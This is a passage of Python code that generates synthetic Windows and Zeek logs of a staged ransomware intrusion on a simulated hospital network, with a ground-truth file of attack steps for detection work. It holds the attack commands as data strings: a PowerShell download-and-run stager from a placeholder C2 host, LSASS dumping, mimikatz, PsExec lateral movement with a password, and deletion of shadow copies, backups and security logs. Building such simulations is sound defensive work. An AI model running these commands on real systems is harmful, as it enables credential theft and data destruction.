            e.conn(t, src.ip, host.ip, 104, service="dicom", sent=rng.randrange(10**6, 6 * 10**7),
                   received=rng.randrange(2000, 9000), duration=rng.uniform(2, 40))
            if rng.random() < 0.05:
                e.network(t + 60, host, server, w.fs.ip, 445)
        e.logon(_local(tz, day, 3 * 3600 + 20), host, w.pacs_service, 5)
    if host.role == "dc":
        for ws in w.workstations:
            for _ in range(rng.randrange(4, 9)):
                t = _local(tz, day, rng.randrange(86400))
                computer = Account(f"{ws.name}$", f"{host.sid}-{2000 + w.workstations.index(ws)}")
                e.logon(t, host, computer, 3, source=ws)
                e.share(t + 0.1, host, computer, ws, "SYSVOL", "\\??\\C:\\Windows\\SYSVOL\\sysvol")
                e.share(t + 0.2, host, computer, ws, "IPC$", "")
    # an administrator's routine check of the server
    t = _local(tz, day, 9 * 3600 + rng.randrange(7200))
    e.logon(t, host, w.admin, 10, source=w.clinical[0], package="Negotiate")
    if first:
        e.service(
            _local(tz, day, 2 * 3600), host, "MpKslDrv",
            "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\"
            "{6F2B3A51-0C7E-4D7B-9C3B-2B1F8E0A9D11}\\MpKslDrv.sys",
        )


# -------------------------------------------------------------------------------------------
# the intrusion


def _attack(e: _Estate, w: _World, day: dt.date, tz: ZoneInfo) -> None:
    rng = e.rng
    victim_host = rng.choice(w.nursing)
    nurse = w.users[victim_host.name][rng.randrange(3)]
    who = nurse.qualified
    base = _local(tz, day, 10 * 3600 + rng.randrange(1800))
    # The nurse is at the workstation, logged on as a local administrator (a legacy
    # device-driver install left the account in the local Administrators group).
    e.logon(base - 1800, victim_host, nurse, 2)
    explorer = e.process(base - 1795, victim_host, "C:\\Windows\\explorer.exe",
                         "C:\\Windows\\Explorer.EXE", None, who, directory="C:\\Windows\\")
    outlook = e.process(base - 1700, victim_host, f"{OFFICE}OUTLOOK.EXE",
                        f'"{OFFICE}OUTLOOK.EXE" ', explorer, who, directory=OFFICE)

    # 1. phishing: the attachment, Word, encoded PowerShell, the stager download
    folder = f"C:\\Users\\{nurse.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache" \
        f"\\Content.Outlook\\{rng.getrandbits(32):08X}\\"
    doc = f"{folder}Invoice_Staffing_Agency_{day:%m%d}.docm"
    e.file(base, victim_host, outlook, doc, step="1")
    word = e.process(base + 4, victim_host, f"{OFFICE}WINWORD.EXE",
                     f'"{OFFICE}WINWORD.EXE" /n "{doc}" /o ""', outlook, who, step="1",
                     directory=folder)
    stager = _encoded(f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_HOST}/a')")
    ps = e.process(
        base + 9, victim_host, f"{SYS32}WindowsPowerShell\\v1.0\\powershell.exe",
        f"powershell.exe -nop -w hidden -enc {stager}", word, who, step="1",
        directory=folder,
    )
    e.network(base + 11, victim_host, ps, C2_IP, 80, step="1", dst_name=C2_HOST)
    e.conn(base + 11, victim_host.ip, C2_IP, 80, service="http", sent=420, received=184_320)
    for k in range(24):  # the beacon, every ~5 minutes, until the evening
        t = base + 60 + k * 300 + rng.randrange(30)
        e.conn(t, victim_host.ip, C2_IP, 443, service="ssl", sent=rng.randrange(300, 900),
               received=rng.randrange(200, 4000), duration=rng.uniform(0.1, 0.6))

    # 2. credential dumping, from the PowerShell session (elevated)
    t = base + 900 + rng.randrange(300)
    dump = "C:\\Users\\Public\\Documents\\lsass.dmp"
    rundll = e.process(
        t, victim_host, f"{SYS32}rundll32.exe",
        f"rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 652 {dump} full",
        ps, who, integrity="High", step="2",
    )
    e.access(
        t + 0.3, victim_host, rundll, "0x1FFFFF",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
        "C:\\Windows\\System32\\comsvcs.dll+4c5b|C:\\Windows\\System32\\comsvcs.dll+1c74|"
        "C:\\Windows\\System32\\rundll32.exe+3c2d",
        step="2",
    )
    e.file(t + 2, victim_host, rundll, dump, step="2")
    mimi_path = "C:\\Users\\Public\\Documents\\m64.exe"
    e.file(t + 60, victim_host, ps, mimi_path, step="2")
    mimi = e.process(
        t + 70, victim_host, mimi_path,
        f'{mimi_path} "privilege::debug" "sekurlsa::logonpasswords" exit', ps, who,
        integrity="High", step="2", directory="C:\\Users\\Public\\Documents\\",
    )
    e.access(
        t + 70.5, victim_host, mimi, "0x1010",
        f"C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|{mimi_path}+5a8f1", step="2",
    )

    # 3. lateral movement with the administrator's dumped credentials: PsExec to both servers
    admin = w.admin
    t = base + 3 * 3600 + rng.randrange(600)
    psexec_path = "C:\\Users\\Public\\Documents\\PsExec64.exe"
    e.file(t - 30, victim_host, ps, psexec_path, step="3")
    e.file(t - 25, victim_host, ps, "C:\\Users\\Public\\Documents\\winupd.exe", step="3")
    night = _local(tz, day, 23 * 3600 + rng.randrange(600))
    for n, server in enumerate((w.fs, w.pacs)):
        ts = t + n * 420
        e.process(
            ts, victim_host, f"{SYS32}cmd.exe",
            f'cmd.exe /c copy C:\\Users\\Public\\Documents\\winupd.exe \\\\{server.name}\\C$\\Users'
            '\\Public\\winupd.exe',
            ps, who, step="3",
        )
        e.logon(ts + 0.5, server, admin, 3, source=victim_host, step="3", package="NTLM")
        e.share(ts + 0.6, server, admin, victim_host, "C$", "\\??\\C:\\", step="3")
        e.share(ts + 0.7, server, admin, victim_host, "C$", "\\??\\C:\\",
                "Users\\Public\\winupd.exe", "0x2", step="3")
        system = Proc("{00000000-0000-0000-0000-000000000004}", 4, "System", "", SYSTEM_USER)
        e.file(ts + 0.9, server, system, PAYLOAD, step="3")
        conn = e.conn(ts + 0.5, victim_host.ip, server.ip, 445, service="smb,ntlm,gssapi",
                      sent=1_843_200, received=21_000, duration=3.2)
        conn.smb += [
            ("smb_mapping", {"path": f"\\\\{server.name}\\C$", "service": "DISK",
                             "native_file_system": "NTFS", "share_type": "DISK"}),
            ("smb_files", {"action": "SMB::FILE_WRITE", "path": f"\\\\{server.name}\\C$",
                           "name": "Users\\Public\\winupd.exe", "size": 1_802_240}),
        ]
        command = (
            f"{psexec_path} -accepteula \\\\{server.name} -u {DOMAIN}\\{admin.name} -p "
            f"W1nter2026! -s cmd.exe /c schtasks /create /tn WindowsUpdateCheck /tr "
            f"{PAYLOAD} /sc once /st 23:00 /ru SYSTEM /f"
        )
        e.process(ts + 30, victim_host, psexec_path, command, ps, who, step="3",
                  directory="C:\\Users\\Public\\Documents\\")
        e.logon(ts + 31, server, admin, 3, source=victim_host, step="3", package="NTLM")
        e.share(ts + 31.1, server, admin, victim_host, "ADMIN$", "\\??\\C:\\Windows", step="3")
        e.share(ts + 31.2, server, admin, victim_host, "ADMIN$", "\\??\\C:\\Windows",
                "PSEXESVC.exe", "0x2", step="3")
        e.file(ts + 31.3, server, system, "C:\\Windows\\PSEXESVC.exe", step="3")
        e.service(ts + 31.5, server, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", step="3")
        for pipe in ("stdin", "stdout", "stderr"):
            e.share(ts + 31.8, server, admin, victim_host, "IPC$", "",
                    f"PSEXESVC-{victim_host.name}-{rng.randrange(1000, 9999)}-{pipe}", "0x3",
                    step="3")
        services = Proc(e.guid(), 640, f"{SYS32}services.exe", f"{SYS32}services.exe",
                        SYSTEM_USER)
        svc = e.process(ts + 32, server, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe",
                        services, SYSTEM_USER, step="3")
        shell = e.process(
            ts + 33, server, f"{SYS32}cmd.exe",
            f"cmd.exe /c schtasks /create /tn WindowsUpdateCheck /tr {PAYLOAD} /sc once "
            "/st 23:00 /ru SYSTEM /f",
            svc, SYSTEM_USER, step="3",
        )
        e.process(
            ts + 33.4, server, f"{SYS32}schtasks.exe",
            f"schtasks  /create /tn WindowsUpdateCheck /tr {PAYLOAD} /sc once /st 23:00 "
            "/ru SYSTEM /f",
            shell, SYSTEM_USER, step="3",
        )
        conn = e.conn(ts + 31, victim_host.ip, server.ip, 445, service="smb,ntlm,gssapi",
                      sent=412_000, received=9_800, duration=6.1)
        conn.smb += [
            ("smb_mapping", {"path": f"\\\\{server.name}\\ADMIN$", "service": "DISK",
                             "native_file_system": "NTFS", "share_type": "DISK"}),
            ("smb_mapping", {"path": f"\\\\{server.name}\\IPC$", "service": "IPC",
                             "native_file_system": "-", "share_type": "PIPE"}),
            ("smb_files", {"action": "SMB::FILE_WRITE", "path": f"\\\\{server.name}\\ADMIN$",
                           "name": "PSEXESVC.exe", "size": 381_816}),
        ]
        _impact(e, w, server, night + n * 90)


def _impact(e: _Estate, w: _World, server: Host, t: float) -> None:
    """Steps 4 and 5 on one server: the scheduled task starts the payload at night."""
    rng = e.rng
    task = Proc(e.guid(), 1312, f"{SYS32}svchost.exe",
                f"{SYS32}svchost.exe -k netsvcs -p -s Schedule", SYSTEM_USER)
    payload = e.process(t, server, PAYLOAD, PAYLOAD, task, SYSTEM_USER, step="4",
                        directory="C:\\Users\\Public\\")
    commands = (
        ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        ("wmic.exe", "wmic.exe shadowcopy delete /nointeractive"),
        ("bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no"),
        ("bcdedit.exe", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"),
        ("wbadmin.exe", "wbadmin.exe delete catalog -quiet"),
        ("wbadmin.exe", "wbadmin.exe delete systemstatebackup -keepVersions:0 -quiet"),
        ("wevtutil.exe", "wevtutil.exe cl Security"),
    )
    for k, (image, command) in enumerate(commands):
        at = t + 5 + 4 * k
        shell = e.process(at, server, f"{SYS32}cmd.exe", f"cmd.exe /c {command}", payload,
                          SYSTEM_USER, step="4")
        e.process(at + 0.4, server,
                  f"{SYS32}wbem\\{image}" if image == "wmic.exe" else f"{SYS32}{image}",
                  command, shell, SYSTEM_USER, step="4")
    e.add(
        t + 26, server, SECURITY, 1102,
        {"SubjectUserSid": "S-1-5-18", "SubjectUserName": f"{server.name}$",
         "SubjectDomainName": DOMAIN, "SubjectLogonId": "0x3e7"},
        step="4", user_data="LogFileCleared",
    )
    # 5. encryption
    start = t + 60
    if server.role == "pacs":
        folders = [f"E:\\PACS\\Archive\\{2024 + y}\\{m:02d}" for y in range(2) for m in (1, 6, 11)]
        names = [f"{rng.getrandbits(40):010X}.dcm" for _ in range(48)]
    else:
        folders = [f"D:\\Shares\\{d}" for d in ("Nursing", "Quality", "Pharmacy", "Scheduling",
                                               "HR", "Finance")]
        names = [f"{rng.choice(('roster', 'handover', 'census', 'audit', 'budget'))}_"
                 f"{i:02d}.{rng.choice(('xlsx', 'docx', 'pdf'))}" for i in range(48)]
    at = start
    for folder in folders:
        for name in rng.sample(names, 8):
            at += rng.uniform(0.05, 0.4)
            e.file(at, server, payload, f"{folder}\\{name}{RANSOM_EXT}", step="5")
        e.file(at + 0.1, server, payload, f"{folder}\\{RANSOM_NOTE}", step="5")
    policies = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\"
    e.registry(at + 1, server, payload, policies + "LegalNoticeCaption",
               "YOUR FILES ARE ENCRYPTED", step="5")
    e.registry(at + 1.1, server, payload, policies + "LegalNoticeText", RANSOM_TEXT, step="5")
    e.registry(at + 1.2, server, payload, policies + "Wallpaper",
               f"C:\\Users\\Public\\{RANSOM_NOTE}.bmp", step="5")


# -------------------------------------------------------------------------------------------
# writing

ZEEK_CONN = (
    ("ts", "time"), ("uid", "string"), ("id.orig_h", "addr"), ("id.orig_p", "port"),
    ("id.resp_h", "addr"), ("id.resp_p", "port"), ("proto", "enum"), ("service", "string"),
    ("duration", "interval"), ("orig_bytes", "count"), ("resp_bytes", "count"),
    ("conn_state", "string"), ("local_orig", "bool"), ("local_resp", "bool"),
    ("missed_bytes", "count"), ("history", "string"), ("orig_pkts", "count"),
    ("orig_ip_bytes", "count"), ("resp_pkts", "count"), ("resp_ip_bytes", "count"),
    ("tunnel_parents", "set[string]"),
)
ZEEK_SMB = {
    "smb_mapping": (
        ("ts", "time"), ("uid", "string"), ("id.orig_h", "addr"), ("id.orig_p", "port"),
        ("id.resp_h", "addr"), ("id.resp_p", "port"), ("path", "string"),
        ("service", "string"), ("native_file_system", "string"), ("share_type", "string"),
    ),
    "smb_files": (
        ("ts", "time"), ("uid", "string"), ("id.orig_h", "addr"), ("id.orig_p", "port"),
        ("id.resp_h", "addr"), ("id.resp_p", "port"), ("fuid", "string"), ("action", "enum"),
        ("path", "string"), ("name", "string"), ("size", "count"), ("prev_name", "string"),
        ("times.modified", "time"), ("times.accessed", "time"), ("times.created", "time"),
        ("times.changed", "time"),
    ),
}
_B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def _zeek_uid(rng: random.Random, prefix: str = "C") -> str:
    return prefix + "".join(rng.choice(_B62) for _ in range(17))


def _local_ip(ip: str) -> bool:
    return ip.startswith("10.")


def _zeek_header(path: str, columns: tuple[tuple[str, str], ...], opened: float) -> list[str]:
    stamp = _utc(opened).strftime("%Y-%m-%d-%H-%M-%S")
    return [
        "#separator \\x09",
        "#set_separator\t,",
        "#empty_field\t(empty)",
        "#unset_field\t-",
        f"#path\t{path}",
        f"#open\t{stamp}",
        "#fields\t" + "\t".join(name for name, _ in columns),
        "#types\t" + "\t".join(kind for _, kind in columns),
    ]


def _write_zeek(out: Path, conns: list[_Conn], rng: random.Random) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    conns.sort(key=lambda c: (c.time, c.seq))
    opened = conns[0].time if conns else 0.0
    closed = _utc(conns[-1].time if conns else 0.0).strftime("%Y-%m-%d-%H-%M-%S")
    lines = _zeek_header("conn", ZEEK_CONN, opened)
    smb: dict[str, list[str]] = {name: _zeek_header(name, cols, opened)
                                 for name, cols in ZEEK_SMB.items()}
    for c in conns:
        uid = _zeek_uid(rng)
        packets_out = max(1, c.orig_bytes // 1200 + 3)
        packets_in = max(1, c.resp_bytes // 1200 + 3)
        values = [
            f"{c.time:.6f}", uid, c.src, str(c.sport), c.dst, str(c.dport), c.proto,
            c.service or "-", f"{c.duration:.6f}", str(c.orig_bytes), str(c.resp_bytes),
            c.state, "T" if _local_ip(c.src) else "F", "T" if _local_ip(c.dst) else "F", "0",
            c.history, str(packets_out), str(c.orig_bytes + 40 * packets_out), str(packets_in),
            str(c.resp_bytes + 40 * packets_in), "(empty)",
        ]
        lines.append("\t".join(values))
        ids = [f"{c.time + 0.01:.6f}", uid, c.src, str(c.sport), c.dst, str(c.dport)]
        for log, fields in c.smb:
            if log == "smb_mapping":
                row = [*ids, fields["path"], fields["service"], fields["native_file_system"],
                       fields["share_type"]]
            else:
                stamp = f"{c.time:.6f}"
                row = [*ids, _zeek_uid(rng, "F"), fields["action"], fields["path"],
                       fields["name"], str(fields["size"]), "-", stamp, stamp, stamp, stamp]
            smb[log].append("\t".join(row))
    files = []
    for name, body in (("conn", lines), *smb.items()):
        path = out / f"{name}.log"
        path.write_text("\n".join([*body, f"#close\t{closed}"]) + "\n", "utf-8")
        files.append(path)
    return files


_TASKS = {
    1: "Process Create (rule: ProcessCreate)",
    3: "Network connection detected (rule: NetworkConnect)",
    10: "Process accessed (rule: ProcessAccess)",
    11: "File created (rule: FileCreate)",
    13: "Registry value set (rule: RegistryEvent)",
    4624: "Logon",
    4625: "Logon",
    4672: "Special Logon",
    4688: "Process Creation",
    5140: "File Share",
    5145: "Detailed File Share",
    1102: "Log clear",
}


def _winlogbeat(event: _Event, record: int) -> dict[str, Any]:
    host = event.host
    provider = PROVIDERS[event.channel]
    if event.event_id == 1102:
        provider = "Microsoft-Windows-Eventlog"
    winlog: dict[str, Any] = {
        "channel": event.channel,
        "computer_name": host.fqdn,
        "event_id": str(event.event_id),
        "provider_name": provider,
        "record_id": record,
        "api": "wineventlog",
        "opcode": "Info",
        "task": _TASKS.get(event.event_id, ""),
        "process": {"pid": 4 if event.channel == SECURITY else 2844, "thread": {"id": 7200}},
    }
    if event.channel == SECURITY:
        winlog["keywords"] = ["Audit Failure" if event.event_id == 4625 else "Audit Success"]
    if event.user_data:
        winlog["user_data"] = {event.user_data: event.data}
    else:
        winlog["event_data"] = event.data
    module = {SECURITY: "security", SYSTEM: "system", SYSMON: "sysmon"}[event.channel]
    return {
        "@timestamp": _iso(event.time),
        "agent": {"type": "winlogbeat", "version": "8.13.4", "name": host.name},
        "ecs": {"version": "8.0.0"},
        "event": {"code": str(event.event_id), "provider": provider, "kind": "event",
                  "module": module},
        "host": {"name": host.fqdn, "hostname": host.name, "ip": [host.ip]},
        "log": {"level": "warning" if event.event_id == 7045 else "information"},
        "winlog": winlog,
    }


def generate_intrusion(out_dir: Path, config: IntrusionConfig) -> IntrusionResult:
    """Write ``windows/winlogbeat.jsonl``, ``zeek/{conn,smb_mapping,smb_files}.log`` and
    ``intrusion_truth.jsonl`` under ``out_dir`` (created if missing)."""
    if config.days < 1:
        raise ValueError("days must be at least 1")
    attack_day = config.days // 2 if config.attack_day is None else config.attack_day
    if not 0 <= attack_day < config.days:
        raise ValueError(f"attack_day {attack_day} is outside the {config.days} day(s)")
    if config.nursing_workstations < 1 or config.clinical_workstations < 1:
        raise ValueError("at least one clinical and one nursing workstation")
    rng = random.Random(f"carewarden.intrusion:{config.seed}")
    tz = ZoneInfo(config.site_tz)
    world = _world(config, rng)
    estate = _Estate(rng)
    for account in (
        *(a for users in world.users.values() for a in users),
        world.admin,
        world.backup,
        world.pacs_service,
    ):
        estate.sids[account.name] = account.sid
    for k in range(config.days):
        day = config.start + dt.timedelta(days=k)
        for host in world.workstations:
            _workstation_day(estate, world, host, day, tz, k == 0)
        for host in (world.dc, world.fs, world.pacs):
            _server_day(estate, world, host, day, tz, k == 0)
        if k == attack_day:
            _attack(estate, world, day, tz)
    out_dir = Path(out_dir)
    windows = out_dir / "windows"
    windows.mkdir(parents=True, exist_ok=True)
    estate.events.sort(key=lambda ev: (ev.time, ev.seq))
    records: dict[tuple[str, str], int] = defaultdict(lambda: 1000)
    steps: dict[tuple[str, str], list[tuple[float, str]]] = defaultdict(list)
    win_path = windows / "winlogbeat.jsonl"
    with win_path.open("wb") as handle:
        for event in estate.events:
            key = (event.host.name, event.channel)
            records[key] += 1
            handle.write(orjson.dumps(_winlogbeat(event, records[key])) + b"\n")
            if event.step is not None:
                uid = f"{event.host.fqdn}/{event.channel}/{records[key]}"
                steps[(event.step, event.host.fqdn)].append((event.time, uid))
    zeek = _write_zeek(out_dir / "zeek", estate.conns, rng)
    truth_path = out_dir / "intrusion_truth.jsonl"
    by_number = {str(n): (name, tactic, techniques) for n, name, tactic, techniques in STEPS}
    with truth_path.open("wb") as handle:
        for (number, fqdn), events in sorted(steps.items(), key=lambda i: (i[1][0][0], i[0])):
            name, tactic, techniques = by_number[number]
            handle.write(
                orjson.dumps(
                    {
                        "step": int(number),
                        "name": name,
                        "host": fqdn,
                        "tactic": tactic,
                        "techniques": list(techniques),
                        "start": _iso(events[0][0]),
                        "end": _iso(events[-1][0]),
                        "event_uids": [uid for _, uid in events],
                    }
                )
                + b"\n"
            )
    return IntrusionResult(
        out_dir=out_dir,
        windows_files=[win_path],
        zeek_files=zeek,
        truth_path=truth_path,
        events=len(estate.events),
        connections=len(estate.conns),
        steps=len(steps),
        hosts=[h.fqdn for h in world.hosts],
    )


def read_truth(path: Path) -> list[dict[str, Any]]:
    """The rows of an ``intrusion_truth.jsonl``."""
    rows: list[dict[str, Any]] = []
    for line in path.read_bytes().splitlines():
        if line.strip():
            rows.append(orjson.loads(line))
    return rows
